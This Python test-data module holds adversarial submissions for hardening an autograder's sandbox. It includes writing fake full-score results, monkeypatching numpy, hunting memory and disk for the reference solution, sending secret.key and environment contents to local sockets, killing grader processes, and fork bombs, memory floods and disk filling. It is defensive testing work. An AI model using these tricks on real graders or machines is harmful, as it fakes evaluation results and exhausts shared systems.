"""Attacks on the grader, each a snippet of Python run by a submission (data, not code).

The base submission is the reference with two real bugs (rnn_step_forward forgets the
bias, word_embedding_backward loses repeated indices), so that it scores well below
full marks. An Attack's code runs either at import of rnn_layers.py ("import") or at
the start of word_embedding_forward ("call"; its tests are the only ones it may cost),
or replaces a function ("replace": `code` defines it anew at the end of the module).
Placeholders, filled in by the test: {SOLUTIONS} and {ROOT} where the grader keeps the
reference and itself, {OUTSIDE} a folder outside the sandbox that must
stay unchanged, {OUT} the results.json path of the run, {TOKEN} a unique number,
{PORT} a local TCP port and {UNIX} a unix socket path that must receive nothing.

RESOURCE_ATTACKS (issue 10) go for the machine rather than the score: memory taken by
several processes together, process floods, disk filling, calls that never return.
They are built on the correct reference (build(..., bugs=False)), so that the same
submission without the attack scores full marks. Every process they start is named
"rnn{TOKEN}" (MARK), so that a survivor is found by name after grading.
"""
import shutil
import textwrap
from dataclasses import dataclass
from pathlib import Path

SOLUTIONS = Path(__file__).resolve().parents[3] / "solutions" / "rnn"
REAL_BUGS = (("next_h = np.tanh(x @ Wx + prev_h @ Wh + b)", "next_h = np.tanh(x @ Wx + prev_h @ Wh)"),
             ("np.add.at(dW, x, dout)", "dW[x] += dout"))


@dataclass(frozen=True)
class Attack:
    name: str
    where: str  # import | call | replace
    code: str
    cli: bool = False  # run the grader as a command (the attack aims at the grader process)
    files: tuple = ()  # (file name, content) shipped next to the modules


def build(folder: Path, attack: "Attack | None", fill: dict, bugs: bool = True) -> Path:
    """The base (partly wrong) submission in `folder`, with the attack when given;
    bugs=False: the correct reference instead of the base."""
    folder.mkdir(parents=True, exist_ok=True)
    for path in SOLUTIONS.glob("*.py"):
        shutil.copy(path, folder / path.name)
    layers = folder / "rnn_layers.py"
    text = layers.read_text()
    for old, new in REAL_BUGS if bugs else ():
        assert text.count(old) == 1
        text = text.replace(old, new)
    if attack is not None:
        code = fill_in(textwrap.dedent(attack.code).strip("\n"), fill)
        if attack.where == "import":
            text += "\n\n" + code + "\n"
        elif attack.where == "replace":
            text += "\n\n" + code + "\n"
        else:
            marker = "def word_embedding_forward(x, W):\n"
            head, tail = text.split(marker)
            text = head + marker + textwrap.indent(code, "    ") + "\n" + tail
        for name, content in attack.files:
            (folder / name).write_text(textwrap.dedent(content).replace("{OUTSIDE}", str(fill["OUTSIDE"])))
    layers.write_text(text)
    return folder


def fill_in(code: str, fill: dict) -> str:
    """code with every {KEY} of fill replaced by its value."""
    for key, value in fill.items():
        code = code.replace("{" + key + "}", str(value))
    return code


FAKE = '{"score": 100, "tests": [{"name": "x", "score": 100, "max_score": 100}]}'
WRITE_FAKE_RESULTS = f'''
import os, json
for path in ("{{OUT}}", "results.json", "/autograder/results/results.json",
             "{{OUTSIDE}}/results.json", os.path.expanduser("~/results.json")):
    try:
        os.makedirs(os.path.dirname(path) or ".", exist_ok=True)
        open(path, "w").write({FAKE!r})
    except Exception:
        pass
'''

ATTACKS = (
    # ---- fake results ---------------------------------------------------------------
    Attack("fake_results_files_at_import", "import", WRITE_FAKE_RESULTS, cli=True),
    Attack("fake_results_files_in_call", "call", WRITE_FAKE_RESULTS, cli=True),
    Attack("fake_results_on_stdout", "call", f'''
        import os, sys
        print({FAKE!r}); print("Total: 100.00 / 100.00")
        sys.stderr.write("Total: 100.00 / 100.00\\n")
        os.write(1, b"Total: 100.00 / 100.00\\n")
        '''),
    Attack("write_every_inherited_fd", "call", f'''
        import os
        for fd in range(0, 256):
            try:
                os.write(fd, {FAKE!r}.encode())
            except OSError:
                pass
        '''),
    # ---- exits ----------------------------------------------------------------------
    Attack("sys_exit_at_import", "import", "import sys\nsys.exit(0)"),
    Attack("os_exit_at_import", "import", "import os\nos._exit(0)"),
    Attack("keyboard_interrupt_at_import", "import", "raise KeyboardInterrupt"),
    Attack("base_exception_at_import", "import", "raise BaseException('stop')"),
    Attack("sys_exit_in_call", "call", "import sys\nsys.exit(0)"),
    Attack("os_exit_in_call", "call", "import os\nos._exit(0)"),
    Attack("system_exit_in_call", "call", "raise SystemExit(0)"),
    Attack("base_exception_in_call", "call", "raise BaseException('stop')"),
    Attack("skip_exception_in_call", "call", '''
        class Skipped(BaseException):  # what pytest.skip raises
            pass
        raise Skipped("skip this test")
        '''),
    Attack("pytest_skip_in_call", "call", "import pytest\npytest.skip('no')"),
    # ---- monkeypatching and shadowing -----------------------------------------------
    Attack("monkeypatch_numpy_and_builtins", "import", '''
        import builtins, numpy
        numpy.allclose = lambda *a, **k: True
        numpy.array_equal = lambda *a, **k: True
        numpy.isfinite = lambda x: numpy.ones(numpy.shape(x), bool)
        numpy.max = lambda *a, **k: 0.0
        numpy.abs = lambda x: x * 0
        builtins.abs = lambda x: 0
        builtins.max = lambda *a, **k: 0
        '''),
    Attack("shadow_files", "import", "import numpy as np", files=(
        ("numpy.py", "raise ImportError('SHADOW numpy')\n"),
        ("sitecustomize.py", "raise SystemExit('SHADOW sitecustomize')\n"),
        ("usercustomize.py", "raise SystemExit('SHADOW usercustomize')\n"),
        ("conftest.py", "raise SystemExit('SHADOW conftest')\n"),
        ("wire.py", "def encode(v):\n    raise RuntimeError('SHADOW wire')\n"
                    "def decode(b):\n    raise RuntimeError('SHADOW wire')\n"),
        ("layer_ops.py", "def forward(m, p):\n    raise RuntimeError('SHADOW layer_ops')\n"
                         "backward = forward\n"),
        ("classifier_ops.py", "raise RuntimeError('SHADOW classifier_ops')\n"),
        ("jail.py", "raise RuntimeError('SHADOW jail')\n"),
        ("worker.py", "raise RuntimeError('SHADOW worker')\n"),
    )),
    # ---- lying values ---------------------------------------------------------------
    Attack("lying_object", "replace", '''
        class Liar:
            shape = property(lambda self: (1,))
            dtype = property(lambda self: np.dtype("float64"))
            def __eq__(self, other): return True
            def __ne__(self, other): return False
            def __abs__(self): return 0.0
            def __sub__(self, other): return 0.0
            __rsub__ = __add__ = __radd__ = __mul__ = __rmul__ = __truediv__ = __sub__
            def __lt__(self, other): return True
            __le__ = __gt__ = __ge__ = __lt__
            def __float__(self): return 0.0
            def __array__(self, dtype=None, copy=None): return np.zeros(1)
        def word_embedding_backward(dout, cache):
            return Liar()
        def rnn_step_forward(x, prev_h, Wx, Wh, b):
            return Liar(), None
        '''),
    Attack("lying_array_subclass", "replace", '''
        class Lie(np.ndarray):
            def __eq__(self, other): return np.ones(np.shape(other), bool)
            def __sub__(self, other): return np.zeros(np.shape(other))
            __rsub__ = __sub__
            def __abs__(self): return np.zeros(self.shape)
            def __array_ufunc__(self, ufunc, method, *args, **kwargs):
                return np.zeros(np.broadcast(*[np.asarray(a) for a in args]).shape)
        def word_embedding_backward(dout, cache):
            x, W = cache if isinstance(cache, tuple) else (cache["x"], cache["W"])
            return np.full(W.shape, 7.0).view(Lie)
        _old_step = rnn_step_forward
        def rnn_step_forward(x, prev_h, Wx, Wh, b):
            out, cache = _old_step(x, prev_h, Wx, Wh, b)
            return (np.asarray(out) * 2).view(Lie), cache
        '''),
    Attack("nan_and_inf", "replace", '''
        def word_embedding_backward(dout, cache):
            return np.full((3, 3), np.nan)
        _old_step = rnn_step_forward
        def rnn_step_forward(x, prev_h, Wx, Wh, b):
            out, cache = _old_step(x, prev_h, Wx, Wh, b)
            return np.full(out.shape, np.inf), cache
        '''),
    Attack("big_endian_and_odd_dtypes", "replace", '''
        _old_step = rnn_step_forward
        def rnn_step_forward(x, prev_h, Wx, Wh, b):
            out, cache = _old_step(x, prev_h, Wx, Wh, b)
            return out.astype(">f8") + 1, cache
        def word_embedding_backward(dout, cache):
            return np.zeros(3, dtype=[("a", "<f8")])
        '''),
    # ---- looking for the reference ----------------------------------------------------
    Attack("search_memory_for_reference", "replace", '''
        import gc, inspect, sys
        def _find_reference():
            for module in list(sys.modules.values()):
                f = str(getattr(module, "__file__", "") or "")
                if f.endswith("rnn_layers.py") and module is not sys.modules[__name__]:
                    return module
            for obj in gc.get_objects():
                if callable(obj) and getattr(obj, "__name__", "") == "word_embedding_backward" \\
                        and getattr(obj, "__module__", "") != __name__:
                    return type("M", (), {"word_embedding_backward": staticmethod(obj)})
            for frame in inspect.stack():
                for value in list(frame.frame.f_globals.values()) + list(frame.frame.f_locals.values()):
                    if getattr(value, "rnn_layers", None) is not None and \\
                            getattr(value.rnn_layers, "__name__", "") != __name__:
                        return value.rnn_layers
            return None
        _REF = _find_reference()
        _own_backward = word_embedding_backward
        def word_embedding_backward(dout, cache):
            if _REF is not None and _REF.word_embedding_backward is not _own_backward:
                return _REF.word_embedding_backward(dout, cache)
            return _own_backward(dout, cache)
        '''),
    Attack("search_disk_for_solutions", "replace", '''
        import os, time, types
        def _find_solutions():
            start, own = time.time(), open(__file__).read()
            for root, dirs, files in os.walk("/"):
                dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev")]
                if time.time() - start > 4:
                    return None
                for name in files:
                    if name in ("rnn_layers.py", "rnn_layers.ipynb", "secret.key", "RNN.ipynb"):
                        path = os.path.join(root, name)
                        try:
                            text = open(path).read()
                        except Exception:
                            continue
                        if text != own and "np.add.at" in text:
                            module = types.ModuleType("found")
                            exec(compile(text, path, "exec"), module.__dict__)
                            return module
            return None
        _FOUND = _find_solutions()
        _own_backward = word_embedding_backward
        def word_embedding_backward(dout, cache):
            if _FOUND is not None:
                return _FOUND.word_embedding_backward(dout, cache)
            return _own_backward(dout, cache)
        '''),
    Attack("leak_solutions_in_exceptions_and_sockets", "call", '''
        import os, socket
        texts = []
        for path in ("{SOLUTIONS}/rnn_layers.py", "{ROOT}/autograder/secret.key",
                     "{ROOT}/source_notebooks/rnn/RNN.ipynb", "/proc/1/environ",
                     "/proc/%d/environ" % os.getppid()):
            try:
                texts.append(open(path, errors="replace").read())
            except Exception as exc:
                texts.append(repr(exc))
        text = "\\n".join(texts)
        for family, address in ((socket.AF_INET, ("127.0.0.1", {PORT})), (socket.AF_UNIX, "{UNIX}")):
            try:
                s = socket.socket(family, socket.SOCK_STREAM); s.settimeout(1)
                s.connect(address); s.sendall(b"LEAK " + text.encode()); s.close()
            except Exception:
                pass
        print(text)
        raise RuntimeError(text + repr(dict(os.environ)))
        '''),
    # ---- inputs and random state ------------------------------------------------------
    Attack("change_inputs_in_place", "replace", '''
        _f, _b = word_embedding_forward, rnn_forward
        def word_embedding_forward(x, W):
            out, cache = _f(x, W)
            out = out.copy(); W[...] = 0; x[...] = 0
            return out, cache
        def rnn_forward(x, h0, Wx, Wh, b):
            h, cache = _b(x, h0, Wx, Wh, b)
            h = h.copy(); x *= 0; h0 += 1; Wx[...] = np.nan
            return h, cache
        '''),
    Attack("reseed_numpy_to_predict_inputs", "replace", '''
        np.random.seed(0)
        def word_embedding_backward(dout, cache):
            np.random.seed(1234)
            x, W = cache if isinstance(cache, tuple) else (cache["x"], cache["W"])
            return np.random.standard_normal(W.shape)
        '''),
    # ---- processes that outlive the call ------------------------------------------------
    Attack("threads_atexit_and_daemons", "call", '''
        import atexit, os, subprocess, sys, threading, time
        def _spam():
            for _ in range(2000):
                try:
                    os.write(int(sys.argv[3]), b"\\x10\\x00\\x00\\x00\\x00\\x00\\x00\\x00{}")
                    open("{OUTSIDE}/results.json", "w").write("{}")
                except Exception:
                    pass
                time.sleep(0.001)
        threading.Thread(target=_spam, daemon=True).start()
        atexit.register(lambda: open("{OUTSIDE}/atexit.json", "w").write("{}"))
        try:
            subprocess.Popen(["/bin/sleep", "{TOKEN}"], start_new_session=True)
            if os.fork() == 0:
                os.setsid()
                if os.fork() == 0:
                    os.execv("/bin/sleep", ["sleep", "{TOKEN}"])
                os._exit(0)
        except Exception:
            pass
        '''),
    Attack("signal_the_grader", "call", '''
        import os, signal
        for sig in (signal.SIGSTOP, signal.SIGKILL):
            for pid in {os.getppid(), os.getpgid(0)} | {int(p) for p in os.listdir("/proc") if p.isdigit()}:
                if pid not in (0, os.getpid()):
                    try:
                        os.kill(pid, sig)
                    except Exception:
                        pass
        ''', cli=True),
    # ---- resources -----------------------------------------------------------------
    Attack("infinite_loop_at_import", "import", '''
        import signal
        signal.signal(signal.SIGALRM, signal.SIG_IGN); signal.alarm(0)
        while True:
            pass
        '''),
    Attack("infinite_loop_in_call_disabling_timers", "call", '''
        import signal
        for s in (signal.SIGALRM, signal.SIGTERM, signal.SIGINT, signal.SIGXCPU):
            signal.signal(s, signal.SIG_IGN)
        signal.setitimer(signal.ITIMER_REAL, 0)
        while True:
            pass
        '''),
    Attack("fork_flood", "call", '''
        import os
        for _ in range(100000):
            try:
                if os.fork() == 0:
                    os.execv("/bin/sleep", ["sleep", "{TOKEN}"])
            except Exception:
                break
        '''),
    Attack("memory_flood", "call", '''
        import numpy as np
        hoard = [np.ones(10**8) for _ in range(100)]
        '''),
    Attack("output_flood", "call", '''
        import sys
        line = "x" * 10**6
        for _ in range(200):
            print(line)
        '''),
    Attack("segfault", "call", "import ctypes\nctypes.string_at(0)"),
    Attack("deep_recursion_in_call", "call", '''
        def f(n):
            return f(n + 1) + 1
        f(0)
        '''),
    # ---- forged replies ---------------------------------------------------------------
    Attack("forged_replies", "call", '''
        import json, os, pickle, struct, sys
        fd = int(sys.argv[3])
        evil = pickle.dumps(object())
        header = json.dumps({"body": {"$dict": {"ok": {"$array": 0}}},
                             "arrays": [{"dtype": "|O", "shape": [1]}]}).encode()
        bad = json.dumps({"body": {"$array": 0}, "arrays": [{"dtype": "<f8", "shape": [10**12]}]}).encode()
        for message in (struct.pack("<Q", len(header)) + header + evil,
                        struct.pack("<Q", len(bad)) + bad + b"x" * 8,
                        b"\\x80\\x04" + evil):
            os.write(fd, len(message).to_bytes(8, "little") + message)
        os.write(fd, (1 << 62).to_bytes(8, "little"))
        '''),
    # ---- numeric differentiation ----------------------------------------------------
    Attack("numeric_backward_calling_forward", "replace", '''
        def _numeric(f, args, dout, h=1e-5):
            grads = []
            for a in args:
                if a.dtype.kind != "f":
                    grads.append(None)
                    continue
                g = np.zeros_like(a)
                for i in np.ndindex(a.shape):
                    old = a[i]
                    a[i] = old + h; plus = np.sum(f(*args)[0] * dout)
                    a[i] = old - h; minus = np.sum(f(*args)[0] * dout)
                    a[i] = old; g[i] = (plus - minus) / (2 * h)
                grads.append(g)
            return grads
        _step_f, _emb_f = rnn_step_forward, word_embedding_forward
        def rnn_step_forward(x, prev_h, Wx, Wh, b):
            return _step_f(x, prev_h, Wx, Wh, b)[0], (x, prev_h, Wx, Wh, b)
        def rnn_step_backward(dnext_h, cache):
            return tuple(_numeric(rnn_step_forward, [c.copy() for c in cache], dnext_h))
        def word_embedding_forward(x, W):
            return _emb_f(x, W)[0], (x, W)
        def word_embedding_backward(dout, cache):
            return _numeric(word_embedding_forward, [c.copy() for c in cache], dout)[1]
        '''),
    Attack("numeric_backward_inline_forward", "replace", '''
        def _step(x, prev_h, Wx, Wh, b):
            return np.tanh(x @ Wx + prev_h @ Wh + b)
        def _numeric(f, args, dout, h=1e-5):
            grads = []
            for a in args:
                g = np.zeros_like(a)
                for i in np.ndindex(a.shape):
                    old = a[i]
                    a[i] = old + h; plus = np.sum(f(*args) * dout)
                    a[i] = old - h; minus = np.sum(f(*args) * dout)
                    a[i] = old; g[i] = (plus - minus) / (2 * h)
                grads.append(g)
            return grads
        def rnn_step_forward(x, prev_h, Wx, Wh, b):
            return _step(x, prev_h, Wx, Wh, b), (x, prev_h, Wx, Wh, b)
        def rnn_step_backward(dnext_h, cache):
            return tuple(_numeric(_step, [c.copy() for c in cache], dnext_h))
        '''),
)


# ---- issue 10: the machine's resources (see the module's docstring) ---------------------

MARK = """
import ctypes as _ctypes
_ctypes.CDLL(None).prctl(15, b"rnn{TOKEN}", 0, 0, 0)  # PR_SET_NAME, inherited by forks
"""
# Each process holds up to {MB} MiB (16 MiB arrays, every page written), then sleeps;
# {N} of them together ask for several times the grading's memory cap.
HOARD = MARK + """
import time
def _hoard(mb={MB}):
    hoard = []
    try:
        for _ in range(mb // 16):
            hoard.append(np.ones(2 << 20))
    except MemoryError:
        pass
    time.sleep(1000)
"""
FLOOD = MARK + """
import os, threading, time
"""
# Every function and method of the submission, replaced by one that never returns.
SIGNATURES = ("rnn_step_forward(x, prev_h, Wx, Wh, b)", "rnn_step_backward(dnext_h, cache)",
              "rnn_forward(x, h0, Wx, Wh, b)", "rnn_backward(dh, cache)",
              "word_embedding_forward(x, W)", "word_embedding_backward(dout, cache)")
STALLS = {
    "sleeping": "time.sleep(1000)",
    "ignoring_signals": ("for s in (signal.SIGTERM, signal.SIGINT, signal.SIGALRM, "
                         "signal.SIGXCPU, signal.SIGHUP, signal.SIGUSR1):\n"
                         "    signal.signal(s, signal.SIG_IGN)\n"
                         "while True:\n    pass"),
}


def stall_everywhere(how: str) -> Attack:
    """Every layer function never returns (the classifier's methods: see stall_classifier)."""
    body = textwrap.indent(MARK + "import signal, time\n" + STALLS[how], "    ")
    return Attack(f"{how}_in_every_call", "replace",
                  "\n".join(f"def {signature}:\n{body}" for signature in SIGNATURES))


def stall_classifier(how: str, fill: dict) -> str:
    """Code appended to rnn_classifier.py: every method of RNNClassifier never returns."""
    body = textwrap.indent(MARK + "import signal, time\n" + STALLS[how], "        ")
    methods = "\n".join(f"    def {m}(self, *args, **kwargs):\n{body}"
                         for m in ("loss", "predict", "train"))
    return fill_in(f"class RNNClassifier(RNNClassifier):\n{methods}\n", fill)


RESOURCE_ATTACKS = (
    # ---- memory: several processes, each under any per-process limit ----------------
    Attack("memory_in_forked_processes", "call", HOARD + textwrap.dedent("""
        import os
        for _ in range({N}):
            if os.fork() == 0:
                try:
                    _hoard()
                finally:
                    os._exit(0)
        time.sleep(1000)
        """)),
    Attack("memory_in_multiprocessing", "call", HOARD + textwrap.dedent("""
        import multiprocessing
        for _ in range({N}):
            multiprocessing.Process(target=_hoard).start()
        time.sleep(1000)
        """)),
    Attack("memory_in_threads", "call", HOARD + textwrap.dedent("""
        import threading
        for _ in range({N}):
            threading.Thread(target=_hoard, daemon=True).start()
        time.sleep(1000)
        """)),
    # System V shared memory, filled then detached: memory that no process holds, kept
    # by the kernel after its process ended; the count of segments filled is reported
    Attack("sysv_shared_memory_left_behind", "call", MARK + textwrap.dedent("""
        import ctypes
        libc = ctypes.CDLL(None, use_errno=True)
        libc.shmat.restype = ctypes.c_void_p
        filled = 0
        for key in range({TOKEN}, {TOKEN} + {N}):
            shmid = libc.shmget(key, {MB} << 20, 0o1600)  # IPC_CREAT, owner only
            address = libc.shmat(shmid, None, 0) if shmid >= 0 else None
            if address not in (None, ctypes.c_void_p(-1).value):
                ctypes.memset(address, 1, {MB} << 20)
                libc.shmdt(ctypes.c_void_p(address))
                filled += 1
        raise RuntimeError(f"SEEN {filled} ")
        """)),
    # POSIX message queues, left open: kept by the kernel after their process ended
    # (outside an IPC namespace); the count of queues made is reported
    Attack("posix_message_queue_left_behind", "call", MARK + textwrap.dedent('''
        import ctypes
        try:
            mq_open = ctypes.CDLL(None, use_errno=True).mq_open
        except AttributeError:  # glibc before 2.34
            mq_open = ctypes.CDLL("librt.so.1", use_errno=True).mq_open
        made = 0
        for i in range({N}):
            made += mq_open(f"/rnn{TOKEN}-{i}".encode(), 0o102, 0o666, None) >= 0
        raise RuntimeError(f"SEEN {made} ")
        ''')),
    # ---- {N} processes or threads, beyond the cap: the count reached is reported -------
    Attack("fork_flood_detached", "call", FLOOD + textwrap.dedent("""
        n = 0
        for _ in range({N}):  # bounded, should the cap fail
            try:
                pid = os.fork()
            except OSError:
                break
            if pid == 0:
                try:
                    os.setsid()  # out of the process group, as a daemon would
                    time.sleep(1000)
                finally:
                    os._exit(0)
            n += 1
        raise RuntimeError(f"SEEN {n} ")
        """)),
    Attack("thread_flood", "call", FLOOD + textwrap.dedent("""
        n = 0
        for _ in range({N}):
            try:
                threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
            except RuntimeError:
                break
            n += 1
        raise RuntimeError(f"SEEN {n} ")
        """)),
    Attack("fork_bomb", "call", FLOOD + textwrap.dedent("""
        import math
        for _ in range(math.ceil(math.log2({N}))):  # every process forks: 2 ** k of them
            try:
                os.fork()
            except OSError:
                pass
        time.sleep(1000)
        """)),
    # ---- disk: files of 1 MiB until a write fails, in every writable place in sight -----
    Attack("disk_filling", "call", """
        import os
        written = {}
        chunk = b"x" * (1 << 20)
        for place in (".", "/tmp", "/dev/shm", "/var/tmp", os.path.expanduser("~"),
                      "{OUTSIDE}"):
            written[place] = 0
            for i in range({MB}):
                try:
                    with open(os.path.join(place, "fill-{TOKEN}-%d" % i), "wb") as f:
                        written[place] += f.write(chunk)
                except OSError:
                    break
        raise RuntimeError("SEEN " + repr(written).replace(" ", "") + " ")
        """),
)
